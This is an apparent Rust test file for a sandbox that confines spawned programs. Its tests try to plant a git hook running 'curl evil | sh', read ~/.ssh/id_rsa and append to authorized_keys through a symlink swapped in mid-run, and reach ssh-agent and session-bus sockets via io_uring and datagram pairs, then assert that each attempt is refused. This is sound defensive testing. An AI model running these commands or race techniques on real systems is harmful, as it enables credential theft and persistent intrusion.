    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let repo = fixture.user_home.join("code/repo");
    std::fs::create_dir_all(repo.join(".git/hooks")).unwrap();
    let script = "echo 'curl evil | sh' > .git/hooks/pre-commit; echo x > planted; pwd; cat ../README";
    let ran = bash_in(&fixture, &repo, script).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    let output = &ran.body["result"]["output"];
    assert_eq!(
        output["stdout"],
        format!("{}\nreadable\n", repo.display()),
        "it starts there and reads its scope: {output}"
    );
    // Refused by the read-only mount (or, were it missing, by Landlock).
    let stderr = output["stderr"].as_str().unwrap();
    assert!(stderr.contains("Read-only file system") || stderr.contains("Permission denied"), "{output}");
    assert!(!repo.join(".git/hooks/pre-commit").exists(), "a hook was planted in a read-only repository");
    assert!(!repo.join("planted").exists(), "the read-only working directory was written");

    // A working directory in the write scope is writable, as its scope is.
    let out = fixture.user_home.join("out");
    let ran = bash_in(&fixture, &out, "echo made > made; cat made").await;
    assert_eq!(ran.body["result"]["output"]["stdout"], "made\n", "{}", ran.body);

    // Outside every scope: refused before anything runs.
    let ran = bash_in(&fixture, &fixture.user_home, "echo x > .bashrc").await;
    assert_eq!(ran.body["error"]["class"], "capability_denied", "{}", ran.body);
    assert!(!fixture.user_home.join(".bashrc").exists());

    // A manifest whose cwd widens its scopes is refused at install, naming the field.
    let widened = hostile_spawn().replace("fs_write = [\"~/out/\"]", "fs_write = [\"~/out/\"]\ncwd = \"~/\"");
    let dir = fixture.harness.temp.path().join("pkg-widened");
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("connector.wasm"), guest_wasm(GUEST)).unwrap();
    std::fs::write(dir.join("manifest.toml"), manifest(GUEST, &[], &format!("[capabilities.spawn]\n{widened}")))
        .unwrap();
    let body = json!({"source": dir, "reference": "github://aileron-tests/spawner@1.0.0"});
    let preview = fixture.harness.request("POST", "/v1/connectors/preview", Some(body)).await;
    assert_eq!(preview.status, StatusCode::BAD_REQUEST, "{}", preview.body);
    let message = preview.body.to_string();
    assert!(
        message.contains("capabilities.spawn.cwd") && message.contains("not within any fs_read or fs_write scope"),
        "{message}"
    );
}

/// `renameat2(RENAME_EXCHANGE)`: swaps two names atomically.
fn exchange(a: &Path, b: &Path) -> bool {
    let (a, b) = (
        std::ffi::CString::new(a.as_os_str().as_encoded_bytes()).unwrap(),
        std::ffi::CString::new(b.as_os_str().as_encoded_bytes()).unwrap(),
    );
    // SAFETY: renameat2 with two valid C strings.
    unsafe {
        libc::syscall(
            libc::SYS_renameat2,
            libc::AT_FDCWD,
            a.as_ptr(),
            libc::AT_FDCWD,
            b.as_ptr(),
            libc::RENAME_EXCHANGE,
        ) == 0
    }
}

/// The re-attack's H2: the daemon checked the working directory's path, the helper later entered
/// it following symlinks; a directory swapped with a symlink to `~/.ssh` during concurrent runs
/// gave 4 of 30 runs read-write access to it. Now the helper opens it once beneath its scope
/// without following links: every run reads its own directory or is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn a_working_directory_swapped_for_a_symlink_mid_run_never_leads_out_of_the_scope() {
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let work = fixture.user_home.join("code/work");
    let link = fixture.user_home.join("code/link");
    std::fs::create_dir_all(&work).unwrap();
    std::fs::write(work.join("id_rsa"), "harmless\n").unwrap();
    std::os::unix::fs::symlink(fixture.user_home.join(".ssh"), &link).unwrap();

    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let swapper = {
        let (stop, work, link) = (stop.clone(), work.clone(), link.clone());
        std::thread::spawn(move || {
            let mut swaps = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                swaps += exchange(&work, &link) as u64;
            }
            swaps
        })
    };
    let script = "cat id_rsa; echo pwned >> authorized_keys";
    let runs = (0..30).map(|_| bash_in(&fixture, &work, script));
    let answers = futures_util::future::join_all(runs).await;
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    assert!(swapper.join().unwrap() > 30, "the names were swapped during the runs");

    let mut outcomes = std::collections::BTreeMap::new();
    for answer in &answers {
        let everything = answer.body.to_string();
        assert!(!everything.contains(SECRET), "~/.ssh was read through the swapped directory: {everything}");
        let outcome = match answer.body["result"]["output"]["stdout"].as_str() {
            Some(stdout) => format!("ran: {}", stdout.trim()),
            None => answer.body["error"]["class"].as_str().unwrap_or("?").to_string(),
        };
        *outcomes.entry(outcome).or_insert(0) += 1;
    }
    let ssh: Vec<String> = std::fs::read_dir(fixture.user_home.join(".ssh"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert_eq!(ssh, vec!["id_rsa".to_string()], "nothing was written to ~/.ssh: {outcomes:?}");
    assert!(outcomes.keys().all(|o| o == "ran: harmless" || o == "capability_denied"), "{outcomes:?}");
}

/// Compiles `tests/attacks/unix_escape.c` (socket, io_uring and datagram-pair ways to a Unix
/// socket) into `dir`.
fn unix_escape_program(dir: &Path) -> PathBuf {
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/attacks/unix_escape.c");
    let program = dir.join("unix_escape");
    let built = std::process::Command::new("cc")
        .arg("-O1")
        .arg("-o")
        .arg(&program)
        .arg(&source)
        .output()
        .expect("cc is needed (Debian gcc)");
    assert!(built.status.success(), "{}", String::from_utf8_lossy(&built.stderr));
    program
}

/// The re-attack's H3: seccomp refused `socket(AF_UNIX)` but not io_uring (`IORING_OP_SOCKET`)
/// nor a datagram `socketpair` + `sendto(path)`: a spawned program listed the user's ssh-agent
/// keys and reached a datagram socket outside. Each way against a real ssh-agent, a real session
/// bus and a datagram canary.
#[tokio::test]
async fn unix_sockets_outside_stay_out_of_reach_by_socket_io_uring_and_datagram_pairs() {
    let sockets = tempfile::tempdir().unwrap();
    let program = unix_escape_program(sockets.path());
    let spawn = format!(
        "programs = [{{ path = \"{program}\" }}]\n\n[capabilities.spawn.operations.escape]\nargv = \"{program} {{mode}} {{path}}\"\ndescription = \"Try to reach a Unix socket\"\n",
        program = program.display()
    );
    let fixture = Fixture::new(&spawn, "", &["run", "spawn:escape"], None).await;

    /// Kills the targets whatever the test's outcome.
    struct Targets(Vec<std::process::Child>);
    impl Drop for Targets {
        fn drop(&mut self) {
            for child in &mut self.0 {
                let _ = child.kill();
                let _ = child.wait();
            }
        }
    }
    let agent_socket = sockets.path().join("agent.sock");
    let agent = std::process::Command::new("ssh-agent")
        .arg("-D")
        .arg("-a")
        .arg(&agent_socket)
        .stdout(std::process::Stdio::null())
        .spawn()
        .expect("ssh-agent (Debian openssh-client)");
    let bus_socket = sockets.path().join("bus");
    let bus = std::process::Command::new("dbus-daemon")
        .args(["--session", "--nofork", "--nopidfile"])
        .arg(format!("--address=unix:path={}", bus_socket.display()))
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .expect("dbus-daemon (Debian dbus-daemon)");
    let _targets = Targets(vec![agent, bus]);
    let canary_path = sockets.path().join("canary.dgram");
    let canary = std::os::unix::net::UnixDatagram::bind(&canary_path).unwrap();
    canary.set_nonblocking(true).unwrap();
    for _ in 0..100 {
        if agent_socket.exists() && bus_socket.exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    // The targets answer from outside the sandbox.
    assert!(
        std::os::unix::net::UnixStream::connect(&agent_socket).is_ok()
            && std::os::unix::net::UnixStream::connect(&bus_socket).is_ok()
    );

    let attempts = [
        ("socket", &agent_socket),
        ("uring", &agent_socket),
        ("socket", &bus_socket),
        ("uring", &bus_socket),
        ("dgram", &canary_path),
    ];
    for (mode, target) in attempts {
        let ran = fixture.op("escape", json!({"mode": mode, "path": target})).await;
        assert_eq!(ran.status, StatusCode::OK, "{mode} {}: {}", target.display(), ran.body);
        let stdout = ran.body["result"]["output"]["stdout"].as_str().unwrap().to_string();
        assert!(!stdout.contains("REACHED"), "{mode} reached {}: {stdout}", target.display());
        assert!(stdout.contains("refused"), "{mode}: {stdout}");
    }
    let mut buffer = [0u8; 16];
    assert!(canary.recv(&mut buffer).is_err(), "the datagram canary received a message");
}

/// The re-attack's L6: a program looping on a refused CONNECT made one fsynced audit record per
/// attempt (620 KB a second). Each distinct host and reason is recorded once per spawn, at most
/// sixteen, and one summary record counts the rest.
#[tokio::test]
async fn refused_connects_are_recorded_once_each_and_summarised() {
    let hosts = "[capabilities.network]\nhosts = [\"127.0.0.1:9\"]\n";
    let fixture = Fixture::new(&hostile_spawn(), hosts, HOSTILE_CAPABILITIES, Some(60)).await;
    let code = "import socket\n\
def knock(target):\n    s = socket.create_connection(('127.0.0.1', 3128))\n    s.sendall(('CONNECT %s HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n' % (target, target)).encode())\n    answer = s.recv(64)\n    s.close()\n    return answer\n\
answers = [knock('203.0.113.7:443') for _ in range(300)] + [knock('198.51.100.%d:443' % i) for i in range(20)]\n\
print(sum(a.startswith(b'HTTP/1.1 403') for a in answers))";
    let ran = fixture.op("py", json!({"code": format!("exec({code:?})")})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    assert_eq!(ran.body["result"]["output"]["stdout"], "320\n", "every attempt was refused: {}", ran.body);

    let network: Vec<Value> =
        fixture.harness.audit().await.into_iter().filter(|r| r["event_type"] == "spawn.network").collect();
    let (summaries, single): (Vec<&Value>, Vec<&Value>) = network
        .iter()
        .partition(|record| record["payload"]["aileron.connector.reject_reason"] == "refusals_summarised");
    assert_eq!(single.len(), 16, "one record per distinct refusal, at most sixteen: {network:?}");
    assert_eq!(single.iter().filter(|r| r["payload"]["aileron.proxy.upstream.host"] == "203.0.113.7:443").count(), 1);
    assert_eq!(summaries.len(), 1, "{network:?}");
    assert_eq!(summaries[0]["payload"]["aileron.proxy.refused_count"], 320);
    assert_eq!(summaries[0]["payload"]["aileron.proxy.refused_unrecorded"], 304);
    assert_eq!(summaries[0]["payload"]["aileron.spawn.op"], "py");
}
